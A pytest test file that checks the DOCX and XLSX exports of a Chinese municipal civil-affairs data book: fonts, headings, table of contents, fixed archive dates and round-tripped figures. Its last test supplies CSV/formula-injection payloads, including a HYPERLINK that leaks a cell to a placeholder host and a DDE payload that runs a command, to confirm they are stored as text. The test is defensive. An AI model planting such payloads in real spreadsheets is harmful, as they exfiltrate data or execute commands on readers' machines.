"""The book's other editions: book.docx (Word, from the book's HTML) and figures.xlsx (every stated and derived
figure with its source), built in process from small inputs and the fixture regions. The ones make built:
tests/e2e/test_editions_built.py."""

import base64
import datetime as dt
import io
import re
import struct
import zipfile
import zlib
from xml.etree import ElementTree
from xml.sax.saxutils import escape

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from conftest import shared_data
from fixture_regions import add_model_city, add_odd_county
from helpers.base import periods
from helpers.base.fonts import CJK_FAMILY
from helpers.data.chapters import region_chapters
from helpers.data.load import load_region
from helpers.page import published
from helpers.wording import text, verdicts
from reportbuild.publish import editions

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
WHEN = dt.datetime(2022, 9, 23)


# --- helpers ----------------------------------------------------------------------------------------------------


def _png() -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 2, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0\0\xff\0"))
        + chunk(b"IEND", b"")
    )


def _zip(entries: dict[str, bytes], when: tuple) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=when), data)
    return out.getvalue()


class Docx:
    """A DOCX read as a reader's program would: its parts parsed as XML (which fails on a malformed part)."""

    def __init__(self, data: bytes):
        self.zip = zipfile.ZipFile(io.BytesIO(data))
        self.names = self.zip.namelist()
        self.document = ElementTree.fromstring(self.zip.read("word/document.xml"))
        self.styles = ElementTree.fromstring(self.zip.read("word/styles.xml"))
        self.fonts = ElementTree.fromstring(self.zip.read("word/fontTable.xml"))
        for name in self.names:
            if name.endswith(".xml") or name.endswith(".rels"):
                ElementTree.fromstring(self.zip.read(name))

    def paragraphs(self) -> list[tuple[str, str]]:
        """(style id, text) of every paragraph, tables' cells and the table of contents included."""
        found = []
        for p in self.document.iter(f"{W}p"):
            style = p.find(f"{W}pPr/{W}pStyle")
            found.append(
                ("" if style is None else style.get(f"{W}val"), "".join(t.text or "" for t in p.iter(f"{W}t")))
            )
        return found

    def styled(self, style: str) -> list[str]:
        return [words for s, words in self.paragraphs() if s == style]

    def text(self) -> str:
        return "\n".join(words for _, words in self.paragraphs())

    def toc_entries(self) -> list[str]:
        """The entries of the one table of contents (a TOC field in a content control), as they read."""
        sdts = [s for s in self.document.iter(f"{W}sdt") if s.find(f".//{W}docPartGallery") is not None]
        assert len(sdts) == 1, "one table of contents"
        assert "TOC" in "".join(i.text or "" for i in sdts[0].iter(f"{W}instrText"))
        entries = []
        for p in sdts[0].iter(f"{W}p"):
            style = p.find(f"{W}pPr/{W}pStyle")
            if style is not None and re.fullmatch(r"TOC\d", style.get(f"{W}val")):
                entries.append("".join(t.text or "" for t in p.iter(f"{W}t")))
        return entries

    def default_fonts(self) -> dict[str, str]:
        fonts = self.styles.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}rFonts")
        return {key.removeprefix(W): value for key, value in fonts.attrib.items()}


def _squeeze(s: str) -> str:
    return re.sub(r"\s+", "", s)


def _assert_stated_sheet_is_the_data(sheet: pd.DataFrame, region, chapters, start: int, end: int) -> None:
    """The stated-figures sheet, read back, row by row against the region's figures as data/ holds them."""
    order = {c.id: n for n, c in enumerate(chapters)}
    facts = periods.within_years(region.facts, start, end)
    facts = facts[facts["chapter"].isin(order)]
    facts = facts.assign(_order=facts["chapter"].map(order)).sort_values("_order", kind="stable")
    assert len(facts) > 0
    assert list(sheet["obs_id"]) == list(facts["obs_id"])

    def same(read, stored) -> bool:
        missing = stored is None or (not isinstance(stored, str) and pd.isna(stored))
        if missing:
            return read is None or (not isinstance(read, str) and pd.isna(read))
        if isinstance(stored, str):
            return read == stored
        return float(read) == pytest.approx(float(stored), rel=1e-12, abs=0)

    columns = ["indicator", "scope", "stage", "start_year", "year", "period_basis", "value", "unit", "qualifier"]
    columns += ["as_written", "source_id", "publisher", "title", "url", "quote", "table_row", "table_column"]
    for (_, row), (_, fact) in zip(sheet.iterrows(), facts.iterrows()):
        for column in columns:
            assert same(row[column], fact[column]), f"{fact['obs_id']}.{column}: {row[column]!r} ≠ {fact[column]!r}"
        assert row["name_zh"] == fact["name_zh"] and row["period_label"] == text.period_label(fact)
        assert row["figure"] == text.figure(fact)


def _read_sheets(data) -> dict[str, pd.DataFrame]:
    return pd.read_excel(data, sheet_name=None, header=1, engine="openpyxl", dtype=object)


# --- fast tier: pure helpers ------------------------------------------------------------------------------------


def test_edition_date_is_the_newest_source_date_completed_to_a_day():
    facts = pd.DataFrame({"published": ["2020", "2022-09-23", "2021-05", None]})
    assert editions.edition_date(facts) == dt.datetime(2022, 9, 23)
    assert editions.edition_date(pd.DataFrame({"published": ["2021-05", "2019"]})) == dt.datetime(2021, 5, 1)
    assert editions.edition_date(pd.DataFrame({"published": ["2020"]})) == dt.datetime(2020, 1, 1)
    assert editions.edition_date(pd.DataFrame({"published": []})) == editions.NO_DATE


def test_fixed_zip_dates_every_entry_and_the_document_dates_whatever_the_input_carried():
    core = (
        b'<cp:coreProperties xmlns:cp="c" xmlns:dcterms="d"><dcterms:created xsi:type="x">2031-01-02T03:04:05Z'
        b'</dcterms:created><dcterms:modified xsi:type="x">2031-01-02T03:04:05Z</dcterms:modified></cp:coreProperties>'
    )
    entries = {"[Content_Types].xml": b"<Types/>", "docProps/core.xml": core, "word/a.xml": b"<a/>"}
    one = editions.fixed_zip(_zip(entries, (2031, 1, 2, 3, 4, 6)), WHEN)
    other = editions.fixed_zip(_zip(entries, (2040, 5, 6, 7, 8, 10)), WHEN)
    assert one == other
    archive = zipfile.ZipFile(io.BytesIO(one))
    assert archive.namelist() == list(entries), "entries keep their order ([Content_Types].xml first)"
    assert {i.date_time for i in archive.infolist()} == {(2022, 9, 23, 0, 0, 0)}
    written = archive.read("docProps/core.xml")
    assert written.count(b"2022-09-23T00:00:00Z") == 2 and b"2031" not in written
    edited = editions.fixed_zip(one, WHEN, lambda name, data: data.upper() if name == "word/a.xml" else data)
    assert zipfile.ZipFile(io.BytesIO(edited)).read("word/a.xml") == b"<A/>"


def test_column_widths_follow_the_widest_text_within_bounds():
    widths = editions.column_widths([["年份", "原文"], ["2012年", "“" + "很长的原文语句" * 10 + "”"]])
    assert sum(widths) == pytest.approx(100, abs=0.2) and widths[1] > 3 * widths[0]
    assert editions.column_widths([["a", "b"], ["c"]]) is None  # a spanning cell: pandoc decides
    narrow, wide = editions.column_widths([["1", "2" * 200]])
    assert narrow > 0 and wide < 100


BOOK_LIKE = f"""<!DOCTYPE html><html lang="zh-CN"><head><title>某市民政工作十年</title>
<meta name="author" content="某市民政局"><meta name="keywords" content="民政, 某市">
<style>.anchor-link, .screen-only {{ display: none; }} nav.toc a::after {{ content: leader(". "); }}
@page cover {{ @top-left {{ content: none; }} }}</style></head><body><main>
<section class="cover"><p>某省 · 民政工作数据报告</p><h1 class="cover-title">某市民政工作十年</h1></section>
<nav class="toc"><h2>目录</h2><ol><li><a href="#c-0">第1章 社会救助</a></li></ol></nav>
<section><h1 id="c-0">第1章 社会救助<a class="anchor-link" href="#c-0">¶</a></h1><p>城市低保标准提高到645元/人/月。</p>
<h2 id="c-1">变化与增长</h2><p class="screen-only">只在屏幕上</p>
<table><caption>表1-1 低保标准</caption><thead><tr><th>年份</th><th>原文</th></tr></thead>
<tbody><tr><td>2012年</td><td>“由2012年的323元/人/月提高到今年的645元/人/月”</td></tr></tbody></table>
<img alt="图1-1 低保标准" src="data:image/png;base64,{base64.b64encode(_png()).decode()}">
<h3>小节</h3></section>
<section><h1 id="appendix">附录 全部数字及其出处</h1></section></main></body></html>"""


def test_docx_html_says_in_html_what_the_print_css_does():
    html, properties = editions.docx_html(BOOK_LIKE)
    soup = BeautifulSoup(html, "html.parser")
    assert properties == {"title": "某市民政工作十年", "creator": "某市民政局", "keywords": "民政, 某市"}
    assert soup.find(attrs={"custom-style": "Title"}).get_text(strip=True) == "某市民政工作十年"
    assert [h.get_text() for h in soup.find_all("h1")] == ["第1章 社会救助", "附录 全部数字及其出处"]
    assert "¶" not in html and "只在屏幕上" not in html, "what the style sheet hides is not in the book"
    assert soup.find("nav") is None and f"{editions.TOC_MARKER}目录{editions.TOC_MARKER}" in html
    assert not soup.find_all(["style", "meta", "title"])
    assert len(soup.find_all("col")) == 2


def test_book_docx_from_small_html_has_the_books_structure_fonts_and_the_same_bytes_twice():
    data = editions.book_docx(BOOK_LIKE, WHEN)
    assert data == editions.book_docx(BOOK_LIKE, WHEN)
    docx = Docx(data)
    assert docx.styled("Title") == ["某市民政工作十年"]
    assert docx.styled("Heading1") == ["第1章 社会救助", "附录 全部数字及其出处"]
    assert docx.styled("Heading2") == ["变化与增长"] and docx.styled("Heading3") == ["小节"]
    assert docx.toc_entries() == ["第1章 社会救助", "变化与增长", "附录 全部数字及其出处"]
    assert len(list(docx.document.iter(f"{W}tbl"))) == 1 and "表1-1 低保标准" in docx.text()
    media = [n for n in docx.names if n.startswith("word/media/")]
    assert len(media) == 1 and docx.zip.read(media[0]) == _png()
    assert "data:image" not in docx.zip.read("word/document.xml").decode()
    defaults = docx.default_fonts()
    assert defaults["eastAsia"] == CJK_FAMILY and defaults["ascii"] == defaults["hAnsi"] == CJK_FAMILY
    themed = [f for f in docx.styles.iter(f"{W}rFonts") if any("eastAsiaTheme" in k for k in f.attrib)]
    assert not themed, "no style leaves its East Asian font to the theme"
    fonts = {f.get(f"{W}name"): f.find(f"{W}altName") for f in docx.fonts.iter(f"{W}font")}
    assert fonts[CJK_FAMILY].get(f"{W}val") == editions.FALLBACK_FONT
    page = docx.document.find(f"{W}body/{W}sectPr/{W}pgSz")
    assert (page.get(f"{W}w"), page.get(f"{W}h")) == ("11906", "16838"), "A4"
    core = docx.zip.read("docProps/core.xml").decode()
    assert "<dc:title>某市民政工作十年</dc:title>" in core and "<dc:creator>某市民政局</dc:creator>" in core
    assert {i.date_time for i in docx.zip.infolist()} == {(2022, 9, 23, 0, 0, 0)}


@pytest.fixture(scope="module")
def regions_with_qualifiers_and_tables(tmp_path_factory):
    """The fixture regions: figures with qualifiers (odd_county's 约, model_city's 不少于) and cells of a yearbook
    table (model_city's)."""
    data = shared_data(tmp_path_factory.mktemp("editions") / "data")
    ids = [add_odd_county(data), add_model_city(data)]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MINZHENG_DATA", str(data))  # where region_chapters looks
        yield [load_region(r, data) for r in ids]


def _published(region, chapters, start: int, end: int) -> list[dict]:
    """What each chapter publishes of its derived figures (helpers.page.published), as its notebook would."""
    return [
        {
            "derived": published.standard_rows(
                chapter,
                periods.within_years(region.chapter_facts(chapter.id), start, end),
                region.relations,
                verdicts.checked(region.facts, region.checks, chapter.id, region.indicators, region.scopes),
                region.facts,
            )
        }
        for chapter in chapters
    ]


def test_figures_xlsx_round_trips_qualifiers_and_table_cells(regions_with_qualifiers_and_tables):
    seen_qualifier = seen_table = False
    for region in regions_with_qualifiers_and_tables:
        chapters, _ = region_chapters(region.id)
        start, end = (int(region.info[f"default_{k}_year"]) for k in ("start", "end"))
        chapters_published = _published(region, chapters, start, end)
        data = editions.figures_xlsx(region, chapters, chapters_published, (start, end), region.name_zh, "版本", WHEN)
        again = editions.figures_xlsx(region, chapters, chapters_published, (start, end), region.name_zh, "版本", WHEN)
        assert data == again
        sheets = _read_sheets(io.BytesIO(data))
        stated = sheets[editions.STATED_SHEET]
        _assert_stated_sheet_is_the_data(stated, region, chapters, start, end)
        seen_qualifier |= stated["qualifier"].notna().any()
        seen_table |= stated["table_row"].notna().any()
        derived = sheets[editions.DERIVED_SHEET]
        expected = editions.derived_figures(chapters_published)
        assert list(derived["derived_id"]) == list(expected["derived_id"])
        assert derived["derived_id"].is_unique
    assert seen_qualifier and seen_table


def test_xlsx_headers_are_chinese_over_the_stable_ids(regions_with_qualifiers_and_tables):
    region = regions_with_qualifiers_and_tables[0]
    chapters, _ = region_chapters(region.id)
    data = editions.figures_xlsx(
        region, chapters, _published(region, chapters, 2020, 2020), (2020, 2020), region.name_zh, "版本", WHEN
    )
    for sheet, columns in (
        (editions.STATED_SHEET, editions.STATED_COLUMNS),
        (editions.DERIVED_SHEET, editions.DERIVED_COLUMNS),
    ):
        top = pd.read_excel(io.BytesIO(data), sheet_name=sheet, header=None, nrows=2, engine="openpyxl")
        assert list(top.iloc[0]) == [zh for _, zh in columns] and list(top.iloc[1]) == [i for i, _ in columns]
        assert all(re.search(r"[\u4e00-\u9fff]", zh) for _, zh in columns)
    assert zipfile.ZipFile(io.BytesIO(data)).infolist()[0].date_time == (2022, 9, 23, 0, 0, 0)


@pytest.mark.parametrize(
    "payload", ['=HYPERLINK("http://x/?leak="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)"]
)
def test_text_a_spreadsheet_would_run_is_written_as_text(regions_with_qualifiers_and_tables, payload):
    """Every cell figures.xlsx holds is a value: a note that reads like a formula stays text (no <f> element)."""
    region = regions_with_qualifiers_and_tables[0]
    chapters, _ = region_chapters(region.id)
    region.facts.loc[region.facts.index[0], "period_note"] = payload
    try:
        data = editions.figures_xlsx(
            region, chapters, _published(region, chapters, 2020, 2020), (2020, 2020), region.name_zh, payload, WHEN
        )
    finally:
        region.facts.loc[region.facts.index[0], "period_note"] = None
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    assert any(escape(payload) in sheet for sheet in sheets)
